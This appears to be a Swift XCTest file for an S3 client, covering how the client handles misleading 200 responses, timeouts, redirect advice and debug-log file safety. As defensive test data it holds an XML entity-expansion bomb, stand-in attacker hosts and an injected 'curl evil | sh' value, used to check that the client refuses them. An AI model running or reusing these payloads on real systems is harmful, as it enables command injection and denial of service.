import Foundation
import XCTest
@testable import S3

final class ResponseTrustTests: XCTestCase {
    func client(_ transport: HTTPTransport, endpoint: S3Endpoint? = nil, timeout: Int = 30) -> S3Client {
        var config = ClientConfiguration(endpoint: endpoint ?? (try! S3Endpoint(parsing: "http://127.0.0.1:1")),
                                         region: "us-east-1",
                                         credentials: Credentials(accessKeyId: "AK", secretAccessKey: "SK"))
        config.requestTimeout = timeout
        return S3Client(config: config, makeTransport: { transport }, sleep: { _ in })
    }

    func errorXML(_ code: String, extra: String = "") -> String {
        "<Error><Code>\(code)</Code><Message>m</Message>\(extra)</Error>"
    }

    /// The three calls whose 200 can hide a failure (S3 rule 5), each with its result element.
    func copyCalls(_ c: S3Client) -> [(name: String, root: String, run: () throws -> String)] {
        [("CopyObject", "CopyObjectResult", {
            try c.copyObject(bucket: "b", key: "k", sourceBucket: "b", sourceKey: "k",
                             headers: [("Cache-Control", "x")])
        }), ("UploadPartCopy", "CopyPartResult", {
            try c.uploadPartCopy(bucket: "b", key: "k", uploadId: "u", partNumber: 1, sourceBucket: "b", sourceKey: "s",
                                 range: 0...9, ifMatch: "e")
        }), ("CompleteMultipartUpload", "CompleteMultipartUploadResult", {
            try c.completeMultipartUpload(bucket: "b", key: "k", uploadId: "u", parts: [(1, "e")])
        })]
    }

    // MARK: Defect 6: a 200 that is not a success

    func testAnErrorAfterLongWhitespaceIsAFailure() {
        // S3 keeps a long copy alive with whitespace, then sends the outcome: far over 4 KiB.
        let body = Data((String(repeating: " \n", count: 20_000) + "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
                         + errorXML("AccessDenied")).utf8)
        for index in 0..<3 {
            let t = ScriptedTransport([.success(HTTPResponse(status: 200, body: body))])
            let call = copyCalls(client(t))[index]
            XCTAssertThrowsError(try call.run(), call.name) {
                XCTAssertEqual(($0 as? S3Error)?.serviceCode, "AccessDenied", "\($0)")
            }
        }
    }

    func testA200WithoutTheResultElementIsAFailure() {
        let bodies = ["", "   \n  ", "<html><body>502 Bad Gateway</body></html>", "<!DOCTYPE html><html></html>", "OK",
                      "<ListBucketResult><Name>b</Name></ListBucketResult>", "<CopyObjectResult><ETag>\"e\"</ETag>",
                      "<Error><Code>Truncat"]
        for index in 0..<3 {
            for body in bodies {
                let t = ScriptedTransport([.success(HTTPResponse(status: 200, body: Data(body.utf8)))])
                let call = copyCalls(client(t))[index]
                XCTAssertThrowsError(try call.run(), "\(call.name): \(body)") { error in
                    let expected = "answered \(call.name) of s3://b/k with HTTP 200 but no \(call.root)"
                    XCTAssertTrue("\(error)".contains(expected), "\(error)")
                    XCTAssertTrue("\(error)".contains("it is not counted as done"), "\(error)")
                }
            }
        }
    }

    func testTheExpectedResultIsASuccessWhateverWhitespaceComesFirst() throws {
        for index in 0..<3 {
            let root = copyCalls(client(ScriptedTransport([])))[index].root
            let body = "\n    \n<?xml version=\"1.0\" encoding=\"UTF-8\"?><\(root)><ETag>\"abc\"</ETag></\(root)>"
            let t = ScriptedTransport([.success(HTTPResponse(status: 200, body: Data(body.utf8)))])
            XCTAssertEqual(try copyCalls(client(t))[index].run(), "abc")
        }
    }

    func testRestoreNeedsACopyObjectResultToo() {
        let t = ScriptedTransport([.success(HTTPResponse(status: 200, body: Data()))])
        XCTAssertThrowsError(try client(t).copyVersion(bucket: "b", key: "k", versionId: "v", headers: []))
    }

    // MARK: Answers that are not the document asked for

    func testAnswersThatAreNotTheDocumentAskedForAreErrors() {
        let listing = Data("<ListBucketResult><Name>b</Name><Contents><Key>Status</Key></Contents></ListBucketResult>"
            .utf8)
        let t = ScriptedTransport([.success(HTTPResponse(status: 200, body: listing))])
        XCTAssertThrowsError(try client(t).getBucketVersioning(bucket: "b")) { error in
            XCTAssertTrue("\(error)".contains("expected VersioningConfiguration, got ListBucketResult"), "\(error)")
        }
        let html = ScriptedTransport([.success(HTTPResponse(status: 200, body: Data("<html><p>hi</p></html>".utf8)))])
        XCTAssertThrowsError(try client(html).getObjectTagging(bucket: "b", key: "k"))
        let acl = ScriptedTransport([.success(HTTPResponse(status: 200, body: listing))])
        XCTAssertThrowsError(try client(acl).getObjectAcl(bucket: "b", key: "k"))
        let versions = Data("<ListVersionsResult><IsTruncated>false</IsTruncated></ListVersionsResult>".utf8)
        XCTAssertThrowsError(try ListObjectsV2Parser.parse(versions))
    }

    func testMotosGetBucketVersioningResponseIsReadAsTheVersioningDocument() throws {
        let ns = "xmlns=\"http://s3.amazonaws.com/doc/2006-03-01/\""
        let moto = Data("<GetBucketVersioningResponse \(ns)><Status>Enabled</Status></GetBucketVersioningResponse>"
            .utf8)
        let t = ScriptedTransport([.success(HTTPResponse(status: 200, body: moto))])
        XCTAssertEqual(try client(t).getBucketVersioning(bucket: "b"), "Enabled")
        let aws = Data("<VersioningConfiguration \(ns)><Status>Suspended</Status></VersioningConfiguration>".utf8)
        let a = ScriptedTransport([.success(HTTPResponse(status: 200, body: aws))])
        XCTAssertEqual(try client(a).getBucketVersioning(bucket: "b"), "Suspended")
        let empty = Data("<GetBucketVersioningResponse/>".utf8)
        let never = ScriptedTransport([.success(HTTPResponse(status: 200, body: empty))])
        XCTAssertNil(try client(never).getBucketVersioning(bucket: "b"))
    }

    func testAnEmptyDeleteObjectsAnswerIsNotAllDeleted() {
        let t = ScriptedTransport([.success(HTTPResponse(status: 200, body: Data()))])
        XCTAssertThrowsError(try client(t).deleteObjects(bucket: "b", keys: [("k", nil)]))
    }

    func testADocumentTypeDeclarationIsRefused() {
        let bomb = """
        <?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>
        <ListBucketResult><Name>&lol2;</Name><IsTruncated>false</IsTruncated></ListBucketResult>
        """
        XCTAssertThrowsError(try ListObjectsV2Parser.parse(Data(bomb.utf8))) { error in
            XCTAssertTrue("\(error)".contains("DOCTYPE"), "\(error)")
        }
    }

    // MARK: Defect 7: deadlines

    func testSmallRequestsGetTheDeadlineAndTransfersTheLowSpeedLimitOnly() throws {
        let list = Data("<ListAllMyBucketsResult><Buckets></Buckets></ListAllMyBucketsResult>".utf8)
        let copy = Data("<CopyObjectResult><ETag>\"e\"</ETag></CopyObjectResult>".utf8)
        let t = ScriptedTransport([.success(HTTPResponse(status: 200, body: list)),
                                   .success(HTTPResponse(status: 200, headers: [("Content-Length", "3")],
                                                         body: Data("abc".utf8))),
                                   .success(HTTPResponse(status: 200, body: copy))])
        let c = client(t, timeout: 7)
        _ = try c.listBuckets()
        _ = try c.getObject(bucket: "b", key: "k", sink: DataSink())
        _ = try c.copyObject(bucket: "b", key: "k", sourceBucket: "b", sourceKey: "s", headers: nil)
        XCTAssertEqual(t.requests[0].timeout, 7, "a listing has a deadline")
        XCTAssertNil(t.requests[1].timeout, "a download has none: it takes what its size takes")
        XCTAssertNil(t.requests[1].lowSpeedLimit, "the transport's 1 KiB/s for 30 s applies")
        XCTAssertNil(t.requests[2].timeout, "a server-side copy may take minutes")
        XCTAssertEqual(t.requests[2].lowSpeedLimit, 1, "S3's keep-alive whitespace must satisfy the limit")
    }

    func testASecondTimeoutEndsTheRequestAndNamesTheHost() {
        let t = ScriptedTransport(Array(repeating: .failure(.timedOut("Operation timed out after 30000 ms")), count: 5))
        let c = client(t, endpoint: .aws(region: "us-east-1"))
        XCTAssertThrowsError(try c.listObjectsV2(bucket: "bucket-one")) { error in
            let host = "https://bucket-one.s3.us-east-1.amazonaws.com"
            XCTAssertTrue("\(error)".hasPrefix("\(host) did not answer in time"), "\(error)")
            XCTAssertTrue("\(error)".contains("--timeout"), "\(error)")
        }
        XCTAssertEqual(t.requests.count, 2, "retries must not multiply the deadline")
    }

    // MARK: Defect 14: redirect advice

    func redirectMessage(_ body: String, status: Int = 301, headers: [(String, String)] = [], endpoint: S3Endpoint)
        -> (message: String, requests: Int) {
        let t = ScriptedTransport([.success(HTTPResponse(status: status, headers: headers, body: Data(body.utf8)))])
        do {
            _ = try client(t, endpoint: endpoint).listObjectsV2(bucket: "bucket-one")
            return ("no error", t.requests.count)
        } catch { return ("\(error)", t.requests.count) }
    }

    func testRedirectAdviceNamesOnlyHostsOfTheSameProvider() throws {
        let spaces = try S3Endpoint(parsing: "https://nyc3.digitaloceanspaces.com")
        let local = try S3Endpoint(parsing: "http://127.0.0.1:8333")
        let awsCustom = try S3Endpoint(parsing: "https://s3.us-east-1.amazonaws.com")
        func redirect(_ endpoint: String) -> String {
            errorXML("PermanentRedirect", extra: "<Endpoint>\(endpoint)</Endpoint>")
        }
        var m = redirectMessage(redirect("bucket-one.ams3.digitaloceanspaces.com"), endpoint: spaces).message
        XCTAssertTrue(m.contains("use --endpoint-url https://ams3.digitaloceanspaces.com"), m)
        m = redirectMessage(redirect("evil.example.com"), endpoint: spaces).message
        XCTAssertFalse(m.contains("--endpoint-url"), m)
        XCTAssertTrue(m.contains("\"evil.example.com\""), m)
        m = redirectMessage(redirect("attacker.test"), endpoint: local).message
        XCTAssertFalse(m.contains("--endpoint-url"), m)
        m = redirectMessage(redirect("bucket-one.s3.eu-west-1.amazonaws.com"), endpoint: awsCustom).message
        XCTAssertTrue(m.contains("use --region eu-west-1 --endpoint-url https://s3.eu-west-1.amazonaws.com"), m)
        m = redirectMessage(redirect("s3.eu-west-1.amazonaws.com.evil.test"), endpoint: awsCustom).message
        XCTAssertFalse(m.contains("--endpoint-url") || m.contains("--region"), m)
        m = redirectMessage(redirect("bucket-one.s3.eu-west-1.amazonaws.com"), endpoint: .aws(region: "us-east-1"))
            .message
        XCTAssertTrue(m.contains("use --region eu-west-1"), m)
        m = redirectMessage(redirect("host.test; curl evil | sh"), endpoint: spaces).message
        XCTAssertFalse(m.contains("--endpoint-url"), m)
    }

    func testARegionThatIsNotARegionNameIsNotFollowed() {
        let r = redirectMessage(errorXML("PermanentRedirect"), headers: [("x-amz-bucket-region", "evil.test/x")],
                                endpoint: .aws(region: "us-east-1"))
        XCTAssertEqual(r.requests, 1, "a region that would change the host is not followed")
        XCTAssertFalse(r.message.contains("--region"), r.message)
    }

    // MARK: Memory bounds and the debug log

    func testADataSinkHasACap() throws {
        let sink = DataSink(limit: 4)
        try [UInt8](repeating: 1, count: 4).withUnsafeBytes { try sink.write($0) }
        XCTAssertThrowsError(try [UInt8](repeating: 1, count: 1).withUnsafeBytes { try sink.write($0) })
    }

    func testTheDebugLogIsPrivateAndNeverWrittenThroughALink() throws {
        let dir = FileManager.default.temporaryDirectory
            .appendingPathComponent("pail-debuglog-\(getpid())-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: dir) }
        let fresh = dir.appendingPathComponent("fresh.log").path
        let h = try DebugLog.create(fresh)
        h.write(Data("x\n".utf8))
        let mode = { (p: String) in
            ((try FileManager.default.attributesOfItem(atPath: p)[.posixPermissions]) as? Int) ?? -1
        }
        XCTAssertEqual(try mode(fresh), 0o600)

        let old = dir.appendingPathComponent("old.log").path
        XCTAssertTrue(FileManager.default.createFile(atPath: old, contents: Data("secret".utf8),
                                                     attributes: [.posixPermissions: 0o644]))
        _ = try DebugLog.create(old)
        XCTAssertEqual(try mode(old), 0o600)
        XCTAssertEqual(try Data(contentsOf: URL(fileURLWithPath: old)).count, 0)

        let target = dir.appendingPathComponent("target").path
        XCTAssertTrue(FileManager.default.createFile(atPath: target, contents: Data("keep".utf8)))
        let link = dir.appendingPathComponent("link.log").path
        try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: target)
        XCTAssertThrowsError(try DebugLog.create(link)) { XCTAssertTrue("\($0)".contains("symbolic link"), "\($0)") }
        XCTAssertEqual(try String(contentsOfFile: target, encoding: .utf8), "keep")

        let fifo = dir.appendingPathComponent("fifo").path
        XCTAssertEqual(mkfifo(fifo, 0o600), 0)
        XCTAssertThrowsError(try DebugLog.create(fifo), "a FIFO is refused, without waiting for a reader")
    }
}
